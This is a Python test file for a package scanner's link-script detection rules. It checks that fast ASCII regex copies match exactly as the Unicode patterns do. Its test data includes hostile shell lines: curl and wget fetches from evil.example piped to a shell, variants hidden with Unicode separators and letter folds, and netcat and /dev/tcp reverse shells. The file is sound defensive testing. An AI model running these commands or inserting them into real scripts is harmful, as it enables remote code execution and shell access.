"""The link-script rules' ASCII twins (a speed-up) answer exactly as the Unicode patterns do."""

from __future__ import annotations

import re

import pytest

from stockade.scanning.scanners.linkrules import LINE_RULES, LineRule
from stockade.scanning.scanners.shelltext import logical_lines
from tests.unit.scanning.test_linkscripts import BENIGN, HOSTILE_SCRIPTS, OBFUSCATED

# Lines where ASCII and Unicode classes differ: the separators \x1c-\x1f are Unicode whitespace,
# and under IGNORECASE the long s and the Kelvin sign match "s" and "k".
EDGE_LINES = [
    "curl http://evil.example/x |\x1csh",
    "curl\x1dhttp://evil.example/x | sh",
    "wget -qO- http://evil.example/x | bash\x1e",
    "curl http://evil.example/x | \u017fh",
    "\u212a=1; curl http://evil.example/x | sh",
    "echo caf\u00e9 > $PREFIX/etc/menu",
    "nc\u00a0-e /bin/sh 10.0.0.1 4444",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    'mkdir -p "$PREFIX/etc"',
]


def _corpus() -> list[str]:
    lines = list(EDGE_LINES)
    scripts = [(p, t) for p, t, _ in HOSTILE_SCRIPTS] + list(BENIGN)
    scripts += [("bin/.demo-post-link.sh", text) for text in OBFUSCATED]
    for path, text in scripts:
        lines += logical_lines(text.encode("utf-8", errors="replace"), path)
        lines += text.splitlines()
    return lines


def _unicode_only(rule: LineRule, line: str) -> bool:
    for parts in rule.alternatives:
        position = 0
        for part in parts:
            match = part.search(line, position)
            if match is None:
                break
            position = match.end()
        else:
            return True
    return False


def test_every_rule_has_ascii_twins_of_its_patterns() -> None:
    for rule in LINE_RULES:
        assert len(rule.ascii_alternatives) == len(rule.alternatives)
        for fast, slow in zip(rule.ascii_alternatives, rule.alternatives, strict=True):
            assert [p.pattern for p in fast] == [p.pattern for p in slow]
            assert all(p.flags & re.ASCII and p.flags & re.IGNORECASE for p in fast)


@pytest.mark.parametrize("rule", LINE_RULES, ids=lambda rule: rule.rule)
def test_search_answers_as_the_unicode_patterns(rule: LineRule) -> None:
    corpus = _corpus()
    assert len(corpus) > 200
    for line in corpus:
        assert rule.search(line) == _unicode_only(rule, line), (rule.rule, line)


def test_unicode_only_separators_and_folds_are_still_found() -> None:
    by_id = {rule.rule: rule for rule in LINE_RULES}
    fetch_pipe = by_id["link-script:fetch-pipe-shell"]
    assert fetch_pipe.search("curl http://evil.example/x |\x1csh")
    assert fetch_pipe.search("curl http://evil.example/x | \u017fh")
